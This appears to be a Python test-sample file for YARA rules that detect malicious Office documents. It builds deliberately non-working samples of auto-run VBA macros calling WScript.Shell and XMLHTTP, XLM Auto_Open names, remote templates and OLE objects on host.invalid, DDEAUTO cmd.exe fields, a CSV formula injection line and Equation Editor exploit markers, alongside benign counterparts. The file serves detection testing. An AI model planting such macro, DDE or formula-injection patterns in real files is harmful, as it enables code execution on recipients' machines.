"""Samples for rules/office.yar. Macros are text that no program would compile."""

import struct

from tests.starter.samples.formats import compound, rtf, vba_compressed
from tests.starter.samples.parts import attachment, body, file, member

_HEAD = b'Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n'
_RUNS = b'Private Sub Document_Open()\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "a"\r\n'
_CALLS = b'Sub AutoOpen()\r\nx = Shell("calc", 1)\r\nEnd Sub\r\n'
_FETCHES = b'Sub Workbook_Open()\r\nSet h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", u\r\n'
_STARTS = b'Private Sub Document_Open()\r\nMsgBox "Good morning"\r\nEnd Sub\r\n'
_BUTTON = (
    b'Sub Button1_Click()\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "a"\r\nEnd Sub\r\n'
)


def _source_only(source: bytes) -> bytes:
    """A project without compiled code, as generators and attackers write it."""
    return compound({"Module1": bytes(40) + vba_compressed(_HEAD + source)})


def _compiled(*names: str, texts: bytes = b"") -> bytes:
    """A project as Office saves it: a table of names, and texts in the code."""
    table = b"".join(bytes([len(name), 0]) + name.encode() + b"\x9a\x21" for name in names)
    return compound(
        {
            "_VBA_PROJECT": b"\xcc\x61" + bytes(60) + table,
            "ThisDocument": bytes(90) + texts + bytes(9) + vba_compressed(_HEAD),
        }
    )


def _relationships(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="{mode}"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://www.example.org/!" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def _label(name: bytes, flags: int) -> bytes:
    """A Lbl record ([MS-XLS] 2.4.150) for a cell."""
    formula = b"\x3a" + struct.pack("<HHH", 0, 0, 0)
    data = (
        struct.pack("<HBBHHHI", flags, 0, len(name), len(formula), 0, 0, 0) + b"\0" + name + formula
    )
    return struct.pack("<HH", 0x18, len(data)) + data


def _field(instruction: str) -> bytes:
    return (
        f"<w:document><w:r><w:instrText> {instruction} </w:instrText></w:r></w:document>".encode()
    )


_XLM = compound({"Workbook": b"\x09\x08\x10\0" + bytes(40) + _label(b"\x01", 0x21)})
_PRINT_AREA = compound({"Workbook": b"\x09\x08\x10\0" + bytes(40) + _label(b"\x06", 0x20)})
_NAMED = b'<definedNames><definedName name="%s" hidden="1">Macro1!$A$1</definedName></definedNames>'
_EQUATION = "0002ce02-0000-0000-c000-000000000046"
_TALK = b"A macro with AutoOpen that calls WScript.Shell, XMLHTTP and powershell is bad."

DETECTED = {
    "Mailward.Office.AutoMacroRuns": [
        member("word/vbaProject.bin", _source_only(_RUNS)),
        member("word/vbaProject.bin", _source_only(_CALLS)),
        attachment("invoice.doc", _compiled("Document_Open", "Shell")),
        attachment("invoice.doc", _compiled("AutoOpen", texts=b"powershell -c")),
        file("invoice.xls", _compiled("Workbook_Open", texts=b"cmd /c a")),
    ],
    "Mailward.Office.AutoMacroFetches": [
        member("xl/vbaProject.bin", _source_only(_FETCHES)),
        attachment("invoice.xls", _compiled("Auto_Open", "URLDownloadToFileA")),
        attachment("invoice.doc", _compiled("Document_Close", texts=b"WinHttp.WinHttpRequest.5.1")),
    ],
    "Mailward.Office.XlmAutoOpen": [
        attachment("invoice.xls", _XLM),
        member("xl/workbook.xml", _NAMED % b"_xlnm.Auto_Open"),
        member("xl/workbook.bin", "_xlnm.Auto_Open".encode("utf-16-le")),
    ],
    "Mailward.Office.RemoteTemplate": [
        member(
            "word/_rels/settings.xml.rels",
            _relationships("attachedTemplate", "http://host.invalid/a.dotm"),
        ),
        member("settings.xml.rels", _relationships("attachedTemplate", "https://host.invalid/a")),
    ],
    "Mailward.Office.RemoteObject": [
        member(
            "word/_rels/document.xml.rels",
            _relationships(
                "oleObject", "mhtml:http://host.invalid/a.html!x-usc:http://host.invalid/a"
            ),
        ),
        member(
            "word/_rels/document.xml.rels",
            _relationships("oleObject", "https://host.invalid/a.html!"),
        ),
    ],
    "Mailward.Office.DdeCommand": [
        member("word/document.xml", _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k a"')),
        member("word/document.xml", b'<w:fldSimple w:instr=" DDE powershell.exe a">'),
        member("xl/externalLinks/externalLink1.xml", b'<ddeLink ddeService="cmd" ddeTopic="/c a">'),
        attachment("list.csv", b"name,sum\r\nA,=cmd|' /C a'!A0\r\n"),
        attachment("letter.doc", compound({"WordDocument": b"\x13 DDEAUTO cmd.exe \x14\x15"})),
        attachment("letter.rtf", rtf(r'{\field{\*\fldinst {\rtlch DDEAUTO "cmd.exe" "/k a"}}}')),
    ],
    "Mailward.Office.EquationExploit": [
        member("xl/embeddings/oleObject1.bin", compound({"\x01oLe10nAtIVe": b"x"}, _EQUATION)),
        attachment("a.bin", compound({"eQuATiON nATIve": b"x"}, _EQUATION)),
    ],
}

LEFT_ALONE = {
    "Mailward.Office.AutoMacroRuns": [
        member("word/vbaProject.bin", _source_only(_STARTS)),
        member("word/vbaProject.bin", _source_only(_BUTTON)),
        attachment("tool.xls", _compiled("Button1_Click", "Shell")),
        attachment("tool.xls", _compiled("Workbook_Open", "MsgBox")),
        attachment("oil.doc", compound({"WordDocument": b"Shell Oil powershell " + _TALK})),
        attachment("notes.txt", _TALK, "text/plain"),
        attachment("empty.doc", b""),
        body(_TALK),
    ],
    "Mailward.Office.AutoMacroFetches": [
        member("word/vbaProject.bin", _source_only(_STARTS)),
        member("xl/vbaProject.bin", _source_only(_RUNS)),
        attachment("tool.xls", _compiled("Button1_Click", "URLDownloadToFileA")),
        attachment("notes.doc", compound({"WordDocument": _TALK})),
    ],
    "Mailward.Office.XlmAutoOpen": [
        attachment("table.xls", _PRINT_AREA),
        member("xl/workbook.xml", _NAMED % b"_xlnm.Print_Area"),
        member("xl/sharedStrings.xml", b"<t>the name _xlnm.Auto_Open</t>"),
        attachment("table.xls", compound({"Workbook": b"x"})),
    ],
    "Mailward.Office.RemoteTemplate": [
        member(
            "word/_rels/settings.xml.rels",
            _relationships("attachedTemplate", "file:///C:/Users/a/AppData/Normal.dotm"),
        ),
        member(
            "word/_rels/document.xml.rels", _relationships("image", "https://www.example.org/a.png")
        ),
        member("word/document.xml", b"<t>/relationships/attachedTemplate http://host.invalid/</t>"),
    ],
    "Mailward.Office.RemoteObject": [
        member(
            "word/_rels/document.xml.rels", _relationships("oleObject", "file:///C:/a.xlsx!Table1")
        ),
        member(
            "word/_rels/document.xml.rels",
            _relationships("oleObject", "embeddings/oleObject1.bin", mode="Internal"),
        ),
        member(
            "word/_rels/document.xml.rels", _relationships("image", "https://www.example.org/a!")
        ),
        attachment("document.xml.rels", b"relationships/oleObject", "text/plain"),
    ],
    "Mailward.Office.DdeCommand": [
        member("word/document.xml", _field('HYPERLINK "https://www.example.org/"')),
        member("word/document.xml", _field("DDE excel.sheet.8 C:\\\\prices.xls table")),
        member("word/document.xml", b"<w:t>DDEAUTO cmd.exe is an old trick</w:t>"),
        attachment("list.csv", b"name,sum\r\nA,=SUM(B1:B9)\r\ncmd,1|'2'\r\n"),
        attachment("notes.txt", b"=cmd|' /C a'!A0", "text/plain"),
        attachment("letter.rtf", rtf("{\\field{\\*\\fldinst DATE}} DDE and cmd")),
    ],
    "Mailward.Office.EquationExploit": [
        member("word/embeddings/oleObject1.bin", compound({"Equation Native": b"x"}, _EQUATION)),
        attachment("letter.doc", compound({"WordDocument": b"x"})),
        attachment("cut.bin", compound({"a": b"x"}, _EQUATION)[:600]),
    ],
}
